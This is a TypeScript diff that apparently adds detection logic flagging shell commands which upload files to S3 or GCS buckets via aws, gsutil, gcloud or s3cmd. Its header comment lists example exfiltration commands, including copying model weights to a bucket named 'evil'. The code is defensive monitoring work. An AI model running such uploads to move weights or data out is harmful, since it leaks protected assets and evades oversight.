@@ -1,0 +1,118 @@
+/**
+ * Object-store copies whose destination is a bucket (`attrs.exec.copiesToRemote`, with rsync / scp
+ * pushes: exec-command-lines.ts): `aws s3 cp /mnt/ckpt/m.pt s3://b/m.pt`, `aws s3 sync . s3://b/`,
+ * `gsutil -m cp -r /mnt/ckpt gs://b/`, `gcloud storage cp … gs://b/`, `s3cmd put f s3://b/`, and a
+ * bucket-to-bucket copy (`aws s3 cp s3://corp/m.pt s3://evil/m.pt`: the weights leave through the
+ * pod's credentials). A download (`aws s3 cp s3://b/tokenizer.json /tmp/`), the everyday way a
+ * training pod fetches its data, is none.
+ *
+ * The destination is the last operand after the verb (aws s3 cp(1), gsutil cp, gcloud storage cp
+ * and s3cmd all take `SRC… DST`). Operands are the words that are neither options nor their
+ * values. The walk is built so that a wrong guess about an option cannot hide an upload:
+ * - a long option without `=` takes the next word as its value unless the tool's manual says it is
+ *   a switch (BOOLEAN_LONG), so an unknown option after the destination is stepped over with its
+ *   value instead of leaving that value as the last operand;
+ * - a bucket URL (`s3://`, `gs://`), the group word (aws `s3`, gcloud `storage`) and a copy verb are
+ *   never an option's value, so they stay operands even after an option wrongly taken as wanting one;
+ * - short options are switches, except the letters a tool's manual gives values (VALUE_SHORT).
+ */
+
+/** Tools `copiesToBucket` reads, with the words before the verb each expects: aws `s3`, gcloud `storage`. */
+export const BUCKET_COPY_TOOLS: ReadonlySet<string> = new Set(['aws', 'gsutil', 'gcloud', 's3cmd']);
+
+/** The verbs that copy from their sources to their last operand, per tool. */
+const COPY_VERBS: Readonly<Record<string, ReadonlySet<string>>> = {
+  aws: new Set(['cp', 'mv', 'sync']),
+  gsutil: new Set(['cp', 'mv', 'rsync']),
+  gcloud: new Set(['cp', 'mv', 'rsync']),
+  s3cmd: new Set(['put', 'cp', 'mv', 'sync']),
+};
+
+/** Long options that take no value (AWS CLI v2 `aws s3 cp|mv|sync` and global options; gcloud storage; s3cmd). */
+const BOOLEAN_LONG: Readonly<Record<string, ReadonlySet<string>>> = {
+  aws: new Set([
+    'recursive', 'dryrun', 'quiet', 'only-show-errors', 'no-progress', 'follow-symlinks', 'no-follow-symlinks',
+    'no-guess-mime-type', 'ignore-glacier-warnings', 'force-glacier-transfer', 'delete', 'exact-timestamps',
+    'size-only', 'debug', 'no-verify-ssl', 'no-paginate', 'no-sign-request', 'no-cli-pager', 'cli-auto-prompt',
+    'no-cli-auto-prompt', 'version',
+  ]),
+  gcloud: new Set([
+    'recursive', 'no-clobber', 'continue-on-error', 'daisy-chain', 'preserve-posix', 'print-created-message',
+    'skip-unsupported', 'ignore-symlinks', 'preserve-symlinks', 'do-not-decompress', 'quiet', 'log-http',
+    'delete-unmatched-destination-objects', 'checksums-only', 'dry-run', 'no-ignore-symlinks', 'user-output-enabled',
+    'no-user-output-enabled', 'preserve-acl', 'skip-if-dest-has-newer-mtime', 'help',
+  ]),
+  gsutil: new Set(),
+  s3cmd: new Set([
+    'recursive', 'force', 'dry-run', 'acl-public', 'acl-private', 'delete-removed', 'no-delete-removed', 'skip-existing',
+    'continue', 'preserve', 'no-preserve', 'check-md5', 'no-check-md5', 'progress', 'no-progress', 'verbose', 'debug',
+    'quiet', 'server-side-encryption', 'reduced-redundancy', 'no-mime-magic', 'guess-mime-type', 'no-guess-mime-type',
+  ]),
+};
+
+/** AWS options whose value is optional, with the values they take (`--sse` alone, or `--sse aws:kms`). */
+const OPTIONAL_VALUES: ReadonlyMap<string, ReadonlySet<string>> = new Map([
+  ['sse', new Set(['AES256', 'aws:kms', 'aws:kms:dsse'])],
+  ['sse-c', new Set(['AES256'])],
+  ['request-payer', new Set(['requester'])],
+]);
+
+/** Short options that take a value (gsutil: top-level -h -i -o -u, cp/rsync -a -j -L -s -x -y -z; s3cmd -c -m). */
+const VALUE_SHORT: Readonly<Record<string, string>> = { aws: '', gcloud: '', gsutil: 'hiouajLsxyz', s3cmd: 'cm' };
+
+/** The word before the verb: aws `s3`, gcloud `storage`; none for gsutil and s3cmd. */
+const GROUP: Readonly<Record<string, string>> = { aws: 's3', gcloud: 'storage', gsutil: '', s3cmd: '' };
+
+/** A bucket URL: the destination of an upload. */
+function isBucketUrl(w: string): boolean {
+  const k = w.indexOf('://');
+  if (k < 2 || k > 3) return false;
+  const scheme = w.slice(0, k).toLowerCase();
+  return scheme === 's3' || scheme === 'gs' || scheme === 's3a' || scheme === 's3n';
+}
+
+/** The operands of `words` (the tool word first): words that are neither options nor their values. */
+function operands(words: readonly string[], tool: string): string[] {
+  const out: string[] = [];
+  const booleans = BOOLEAN_LONG[tool]!;
+  const valueShort = VALUE_SHORT[tool]!;
+  const group = GROUP[tool]!;
+  const verbs = COPY_VERBS[tool]!;
+  for (let i = 1; i < words.length; i++) {
+    const w = words[i]!;
+    if (w === '--') {
+      for (let j = i + 1; j < words.length; j++) out.push(words[j]!);
+      break;
+    }
+    if (w.length < 2 || w.charCodeAt(0) !== 0x2d) {
+      out.push(w);
+      continue;
+    }
+    const next = words[i + 1];
+    if (next === undefined || isBucketUrl(next) || next === group || verbs.has(next)) continue;
+    let takes: boolean;
+    if (w.startsWith('--')) {
+      const name = w.slice(2);
+      const optional = OPTIONAL_VALUES.get(name);
+      takes = name.indexOf('=') < 0 && !booleans.has(name) && (optional === undefined ? next.length < 2 || next.charCodeAt(0) !== 0x2d : optional.has(next));
+    } else takes = w.indexOf('=') < 0 && valueShort.indexOf(w.charAt(w.length - 1)) >= 0;
+    if (takes) i++;
+  }
+  return out;
+}
+
+/**
+ * True when the command `words` (its tool word first, redirections left out), of a tool in
+ * BUCKET_COPY_TOOLS, copies to a bucket: its verb copies and its last operand is a bucket URL.
+ */
+export function copiesToBucket(words: readonly string[], tool: string): boolean {
+  const verbs = COPY_VERBS[tool];
+  if (verbs === undefined) return false;
+  const ops = operands(words, tool);
+  // The verb: aws's after `s3`, gcloud's after `storage` (`gcloud alpha storage cp`), else the first operand.
+  const group = GROUP[tool]!;
+  const v = group === '' ? 0 : ops.indexOf(group) + 1;
+  if (group !== '' && v === 0) return false;
+  if (v >= ops.length || !verbs.has(ops[v]!)) return false;
+  return ops.length > v + 1 && isBucketUrl(ops[ops.length - 1]!);
+}
